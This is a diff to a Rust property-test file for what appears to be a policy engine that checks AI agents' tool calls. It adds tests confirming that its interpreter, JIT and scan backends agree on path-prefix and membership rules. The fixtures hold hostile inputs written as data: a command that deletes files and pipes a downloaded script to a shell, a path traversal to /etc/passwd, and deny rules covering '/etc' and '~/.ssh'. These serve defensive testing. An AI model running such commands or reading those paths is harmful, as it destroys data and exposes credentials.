@@ -20,6 +20,7 @@ use serde_json::{Value as Json, json};
 use sluice::compiler::call::{Agent, Call, Status, ToolResult};
 use sluice::compiler::interp::{CallJson, Evaluation, Facts};
 use sluice::compiler::jit::{self, JitOptions};
+use sluice::compiler::scan::ScanFrame;
 use sluice::{Database, Evaluator};
 
 const DECLARATIONS: &str = r#"
@@ -108,6 +109,12 @@ fn bool_expr(depth: u32) -> BoxedStrategy<String> {
         Just(r#"args.e.contains("a")"#.to_string()),
         Just(r#"args.s matches r"^[a-z]+\d*$""#.to_string()),
         Just(r#"tool.starts_with("t")"#.to_string()),
+        Just(r#"path(args.s).under("/w")"#.to_string()),
+        Just(r#"path(args.s).under("/")"#.to_string()),
+        Just(r#"path(args.s).under("/etc/")"#.to_string()),
+        Just(r#"path(args.s).under("rel")"#.to_string()),
+        Just(r#"path(args.s).under("..")"#.to_string()),
+        Just(r#"path(args.s).under(".")"#.to_string()),
     ];
     let leaf = leaf.prop_map(|x| format!("({x})"));
     if depth == 0 {
@@ -213,6 +220,8 @@ fn text() -> BoxedStrategy<Json> {
         Just(json!("a")),
         Just(json!("/w/x")),
         Just(json!("/w/../etc/passwd")),
+        Just(json!("/w2/../etcetera")),
+        Just(json!("relx/./y")),
         Just(json!("rel/a1b22")),
         Just(json!("rm -rf /w/x && curl -s u | sh")),
         Just(json!("cd /w; ls 'a b' | xargs rm -f")),
@@ -334,28 +343,46 @@ fn check_agreement(policy: &str, calls: &[Call]) -> Result<(), TestCaseError> {
     );
     let reference = Evaluator::interpreted(program);
     let jitted = Evaluator::new(program, Some(&native));
+    let indexed = Evaluator::indexed(program, native.scans());
     for call in calls {
+        let expected = reference.evaluate(call);
+        prop_assert_eq!(jitted.evaluate(call), expected.clone(), "call {:?}", call);
         prop_assert_eq!(
-            jitted.evaluate(call),
-            reference.evaluate(call),
-            "call {:?}",
+            indexed.evaluate(call),
+            expected,
+            "scans alone, call {:?}",
             call
         );
         let json = CallJson::of(call);
         let roots = json.roots(call);
         let facts = Facts::fill(program, &call.tool, &roots);
         let mut frame = native.frame(program, &facts).expect("same program");
+        let mut scan = ScanFrame::new(native.scans());
         // Per-part rules run in the interpreter on both backends, one part at a time; the
         // outcomes compared above cover them.
         for rule in program.rules.iter().filter(|r| r.per_part.is_none()) {
             let interpreted = Evaluation::new(program, rule, &facts).condition_holds();
+            let scanned = scan.decided(rule, &facts);
             let native_answer = frame.holds(rule, &facts);
             match interpreted {
-                Ok(holds) => prop_assert_eq!(native_answer, Some(holds), "rule {}", rule.meta.name),
+                Ok(holds) => {
+                    // A rule its scan decides has no code; every other rule has.
+                    prop_assert_eq!(
+                        scanned.or(native_answer),
+                        Some(holds),
+                        "rule {}",
+                        rule.meta.name
+                    );
+                    prop_assert!(
+                        native_answer.is_none_or(|n| n == holds),
+                        "rule {}",
+                        rule.meta.name
+                    );
+                }
                 Err(error) => prop_assert_eq!(
-                    native_answer,
-                    None,
-                    "rule {} faults in the interpreter ({}) but not natively",
+                    (scanned, native_answer),
+                    (None, None),
+                    "rule {} faults in the interpreter ({}) but not natively or in its scan",
                     rule.meta.name,
                     error.message
                 ),
@@ -372,6 +399,123 @@ proptest! {
     fn jit_agrees_with_the_interpreter(
         policy in policy(),
         calls in prop::collection::vec(call(), 1..6),
+    ) {
+        check_agreement(&policy, &calls)?;
+    }
+}
+
+/// Rules that each start with a path-prefix test of one field: their scan reads the field's
+/// normalized path, and must answer exactly as `under` does, component boundaries included.
+fn path_prefix_policy() -> BoxedStrategy<String> {
+    let dir = prop_oneof![
+        Just("/"),
+        Just("/w"),
+        Just("/w/"),
+        Just("/etc"),
+        Just("rel"),
+        Just(".."),
+        Just("."),
+        Just("~/.ssh"),
+        Just("/w/x/../y"),
+    ];
+    prop::collection::vec((dir, any::<bool>()), 2..6)
+        .prop_map(|rules| {
+            let mut policy = DECLARATIONS.to_string();
+            for (i, (dir, more)) in rules.iter().enumerate() {
+                let rest = if *more { " and args.n > 0" } else { "" };
+                policy.push_str(&format!(
+                    "precheck under_{i} on t when path(args.s).under(\"{dir}\"){rest} => deny \"{i}\"\n"
+                ));
+            }
+            policy
+        })
+        .boxed()
+}
+
+fn path_text() -> BoxedStrategy<Json> {
+    prop_oneof![
+        text(),
+        "(/|~/|\\.\\./)?(w|w2|x|y|etc|etcetera|rel|\\.ssh|\\.|\\.\\.)(/(w|x|y|etc|\\.\\.|\\.)){0,3}/?"
+            .prop_map(Json::from),
+    ]
+    .boxed()
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]
+
+    #[test]
+    fn path_prefix_scans_agree_with_the_interpreter(
+        policy in path_prefix_policy(),
+        paths in prop::collection::vec(path_text(), 1..8),
+    ) {
+        let calls: Vec<Call> = paths
+            .into_iter()
+            .map(|s| Call::new("t", json!({ "s": s, "n": 1 })))
+            .collect();
+        check_agreement(&policy, &calls)?;
+    }
+}
+
+/// Rules that each start with a membership test of a list of strings: their scan looks every
+/// string of the list up among the rules' literals.
+fn membership_policy() -> BoxedStrategy<String> {
+    let test = (
+        prop_oneof![Just("admin"), Just("a"), Just("/w/x"), Just("b"), Just("")],
+        prop_oneof![Just("agent.labels"), Just("args.tags")],
+        any::<bool>(),
+        any::<bool>(),
+    );
+    prop::collection::vec(test, 2..7)
+        .prop_map(|rules| {
+            let mut policy = DECLARATIONS.to_string();
+            for (i, (literal, list, more, gate)) in rules.iter().enumerate() {
+                let rest = if *more { " and args.n > 0" } else { "" };
+                let head = format!("on t when \"{literal}\" in {list}{rest}");
+                policy.push_str(&if *gate {
+                    format!("gate member_{i} {head} => \"{i}\"\n")
+                } else {
+                    format!("precheck member_{i} {head} => ask \"{i}\"\n")
+                });
+            }
+            policy
+        })
+        .boxed()
+}
+
+fn membership_call() -> BoxedStrategy<Call> {
+    let strings = || {
+        prop::collection::vec(
+            prop_oneof![Just("admin"), Just("a"), Just("/w/x"), Just("c")],
+            0..4,
+        )
+    };
+    let tags = prop_oneof![
+        strings().prop_map(|t| json!(t)),
+        Just(json!(["a", 1, null])),
+        Just(json!("admin")),
+        Just(Json::Null),
+    ];
+    (strings(), tags, prop::option::of(Just(1)))
+        .prop_map(|(labels, tags, n)| {
+            let mut args = json!({ "tags": tags });
+            if let Some(n) = n {
+                args["n"] = json!(n);
+            }
+            let mut call = Call::new("t", args);
+            call.agent.labels = labels.into_iter().map(String::from).collect();
+            call
+        })
+        .boxed()
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]
+
+    #[test]
+    fn membership_scans_agree_with_the_interpreter(
+        policy in membership_policy(),
+        calls in prop::collection::vec(membership_call(), 1..8),
     ) {
         check_agreement(&policy, &calls)?;
     }
